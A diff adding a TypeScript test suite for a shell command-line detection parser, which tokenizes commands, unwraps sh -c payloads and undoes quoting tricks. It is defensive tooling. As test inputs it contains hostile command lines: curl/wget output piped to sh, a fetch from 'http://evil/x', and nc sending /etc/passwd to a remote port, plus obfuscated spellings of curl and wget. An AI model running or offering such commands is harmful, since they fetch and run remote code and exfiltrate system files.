@@ -1,0 +1,237 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import {
+  type CommandSegment,
+  commandSegments,
+  commandStart,
+  MAX_PAYLOAD_DEPTH,
+  MAX_SEGMENTS,
+  resolvePath,
+  shellPayload,
+  tokenize,
+} from "../../src/detection/command-line.js";
+
+/** Segment argv lists, in reading order. */
+function argvs(segments: CommandSegment[]): string[][] {
+  return segments.map((s) => s.argv);
+}
+
+function find(segments: CommandSegment[], head: string): CommandSegment {
+  const found = segments.find((s) => s.argv[commandStart(s.argv)] === head);
+  if (found === undefined) throw new Error(`no segment runs ${head}: ${JSON.stringify(argvs(segments))}`);
+  return found;
+}
+
+describe("tokenize", () => {
+  it.each([
+    ["curl -s http://x", ["curl", "-s", "http://x"]],
+    [`-c "curl x | sh"`, ["-c", "curl x | sh"]],
+    [`'a b' "c \\"d\\"" e\\ f`, ["a b", 'c "d"', "e f"]],
+    [`c''url`, ["curl"]],
+    [`"" x`, ["", "x"]],
+    [`"unterminated x`, ["unterminated x"]],
+    [`'unterminated`, ["unterminated"]],
+    ["  spaced\t\tout \n ", ["spaced", "out"]],
+    [`"$(curl "http://x")"`, ["$(curl http://x)"]],
+    ["trailing\\", ["trailing\\"]],
+  ])("splits %j", (command, words) => {
+    expect(tokenize(command)).toEqual(words);
+  });
+
+  it("never throws and returns strings for any input", () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 300, unit: "binary" }), (command) => {
+        const words = tokenize(command);
+        expect(words.every((w) => typeof w === "string")).toBe(true);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it("returns [] for a non-string", () => {
+    expect(tokenize(null as unknown as string)).toEqual([]);
+  });
+});
+
+describe("shellPayload", () => {
+  it.each([
+    [["sh", "-c", "curl x"], "curl x"],
+    [["/bin/bash", "-lc", "curl x"], "curl x"],
+    [["bash", "-ec", "curl x"], "curl x"],
+    [["bash", "-o", "pipefail", "-c", "curl x"], "curl x"],
+    [["bash", "--norc", "-c", "curl x", "arg0"], "curl x"],
+    [["zsh", "-c", "--", "curl x"], "curl x"],
+    [["su", "-", "app", "-c", "curl x"], "curl x"],
+    [["su", "--command=curl x"], "curl x"],
+    [["eval", "curl", "x"], "curl x"],
+  ])("finds the payload of %j", (words, payload) => {
+    expect(shellPayload(words)).toBe(payload);
+  });
+
+  it.each([[["sh", "script.sh"]], [["bash"]], [["sh", "-c"]], [["python3", "-c", "print(1)"]], [[]]])(
+    "finds none in %j",
+    (words) => {
+      expect(shellPayload(words)).toBeUndefined();
+    },
+  );
+});
+
+describe("commandStart", () => {
+  it.each([
+    [["curl", "x"], 0],
+    [["FOO=1", "BAR=2", "curl", "x"], 2],
+    [["sudo", "-u", "app", "curl", "x"], 3],
+    [["env", "-i", "A=1", "curl"], 3],
+    [["timeout", "-s", "KILL", "5", "curl"], 4],
+    [["nohup", "nice", "-n", "10", "curl"], 4],
+    [["busybox", "wget", "x"], 1],
+    [["/bin/busybox", "--help"], 0],
+    [["if", "curl", "x"], 1],
+    [["command", "-v", "curl"], 0],
+    [["xargs", "-n", "1", "curl"], 3],
+    [["exec", "curl"], 1],
+    [["sudo"], 1],
+  ])("starts %j at %i", (argv, index) => {
+    expect(commandStart(argv)).toBe(index);
+  });
+});
+
+describe("commandSegments", () => {
+  it("keeps a plain argv as one segment, operators and all", () => {
+    expect(argvs(commandSegments(["curl", "x", "|", "sh"]))).toEqual([["curl", "x", "|", "sh"]]);
+  });
+
+  it("splits argv at operator words when asked (exec sessions)", () => {
+    const segments = commandSegments(["curl", "x", "|", "sh"], { splitOperators: true });
+    expect(argvs(segments)).toEqual([["curl", "x"], ["sh"]]);
+    expect(segments[0]!.pipesTo).toBe(segments[1]);
+    expect(segments[1]!.pipedFrom).toBe(segments[0]);
+  });
+
+  it("reads a sh -c payload into pipelines and lists, following cd", () => {
+    // Act
+    const segments = commandSegments(["sh", "-c", "cd /tmp; wget http://x/a -O- | sh"]);
+    // Assess
+    expect(argvs(segments)).toEqual([
+      ["sh", "-c", "cd /tmp; wget http://x/a -O- | sh"],
+      ["cd", "/tmp"],
+      ["wget", "http://x/a", "-O-"],
+      ["sh"],
+    ]);
+    const wget = find(segments, "wget");
+    expect(wget.depth).toBe(1);
+    expect(wget.payloadOf).toBe(segments[0]);
+    expect(wget.cwd).toBe("/tmp");
+    expect(wget.pipesTo?.argv).toEqual(["sh"]);
+  });
+
+  it.each([
+    ["a && b", ["a"], ["b"]],
+    ["a || b", ["a"], ["b"]],
+    ["a & b", ["a"], ["b"]],
+    ["a\nb", ["a"], ["b"]],
+    ["(a); b", ["a"], ["b"]],
+  ])("separates %j without a pipe", (script, first, second) => {
+    const segments = commandSegments(["sh", "-c", script]).slice(1);
+    expect(argvs(segments)).toEqual([first, second]);
+    expect(segments[0]!.pipesTo).toBeUndefined();
+  });
+
+  it("reads command substitutions and records where their output goes", () => {
+    const segments = commandSegments(["bash", "-c", "$(curl -fsSL http://evil/x)"]);
+    const curl = find(segments, "curl");
+    expect(curl.argv).toEqual(["curl", "-fsSL", "http://evil/x"]);
+    expect(curl.substitutionOf?.kind).toBe("command");
+    expect(curl.substitutionOf?.argIndex).toBe(0);
+    expect(curl.substitutionOf?.segment.argv).toEqual(["$(curl -fsSL http://evil/x)"]);
+  });
+
+  it("reads substitutions inside double quotes and backticks", () => {
+    const segments = commandSegments(["sh", "-c", 'sh -c "$(wget -qO- http://x)"; echo `dig +short x`']);
+    expect(find(segments, "wget").substitutionOf?.segment.argv[0]).toBe("sh");
+    expect(find(segments, "wget").substitutionOf?.argIndex).toBe(2);
+    expect(find(segments, "dig").substitutionOf?.segment.argv[0]).toBe("echo");
+  });
+
+  it("reads process substitutions", () => {
+    const segments = commandSegments(["bash", "-c", "bash <(curl -s http://x)"]);
+    const curl = find(segments, "curl");
+    expect(curl.substitutionOf).toMatchObject({ kind: "process", argIndex: 1 });
+    expect(curl.substitutionOf?.segment.argv).toEqual(["bash", "<(curl -s http://x)"]);
+  });
+
+  it("records redirections apart from arguments", () => {
+    const [, nc] = commandSegments(["sh", "-c", "nc 10.0.0.5 4444 < /etc/passwd 2>/dev/null >/tmp/out"]);
+    expect(nc!.argv).toEqual(["nc", "10.0.0.5", "4444"]);
+    expect(nc!.redirects).toEqual([
+      { op: "<", target: "/etc/passwd" },
+      { op: ">", target: "/dev/null" },
+      { op: ">", target: "/tmp/out" },
+    ]);
+  });
+
+  it("undoes shell quoting tricks", () => {
+    const segments = commandSegments(["sh", "-c", `c''ur"l" x; $'\\x77get' y; w\\get z`]);
+    expect(argvs(segments).slice(1)).toEqual([
+      ["curl", "x"],
+      ["wget", "y"],
+      ["wget", "z"],
+    ]);
+  });
+
+  it("follows nested payloads and wrappers", () => {
+    const segments = commandSegments([
+      "busybox",
+      "sh",
+      "-c",
+      `sudo -u app bash -lc 'nohup curl http://x | sh'`,
+    ]);
+    const curl = find(segments, "curl");
+    expect(curl.argv).toEqual(["nohup", "curl", "http://x"]);
+    expect(curl.depth).toBe(2);
+    expect(curl.pipesTo?.argv).toEqual(["sh"]);
+  });
+
+  it(`stops nesting payloads after ${MAX_PAYLOAD_DEPTH} levels`, () => {
+    let script = "curl http://x";
+    for (let i = 0; i < 10; i++) script = `sh -c ${JSON.stringify(script)}`;
+    const segments = commandSegments(["sh", "-c", script]);
+    expect(Math.max(...segments.map((s) => s.depth))).toBe(MAX_PAYLOAD_DEPTH);
+  });
+
+  it("bounds the work on a megabyte of hostile input", () => {
+    const script = "a|b;".repeat(256 * 1024) + "$(".repeat(50_000);
+    const segments = commandSegments(["sh", "-c", script, ...new Array(100_000).fill("x")]);
+    expect(segments.length).toBeLessThanOrEqual(MAX_SEGMENTS);
+  });
+
+  it("never throws for any argv", () => {
+    const shellish = fc.stringMatching(/^[a-z $()`'"\\|;&<>{}\n#=-]{0,80}$/);
+    fc.assert(
+      fc.property(
+        fc.constantFrom("sh", "bash", "busybox", "curl", "eval", "su"),
+        fc.array(fc.oneof(shellish, fc.string()), { maxLength: 6 }),
+        (head, rest) => {
+          const segments = commandSegments([head, "-c", ...rest], { splitOperators: true, cwd: "/srv" });
+          expect(segments.length).toBeGreaterThan(0);
+        },
+      ),
+      { numRuns: 2000 },
+    );
+  });
+});
+
+describe("resolvePath", () => {
+  it.each([
+    ["/app", "/tmp/x", "/tmp/x"],
+    ["/app", "x", "/app/x"],
+    ["/tmp", "./a/../b", "/tmp/b"],
+    [undefined, "/usr/../tmp//x", "/tmp/x"],
+    [undefined, "x", undefined],
+    ["/app", "~/x", "~/x"],
+    ["~", "x", "~/x"],
+    ["/", "..", "/"],
+  ])("resolves %j + %j to %j", (cwd, path, expected) => {
+    expect(resolvePath(cwd, path)).toBe(expected);
+  });
+});
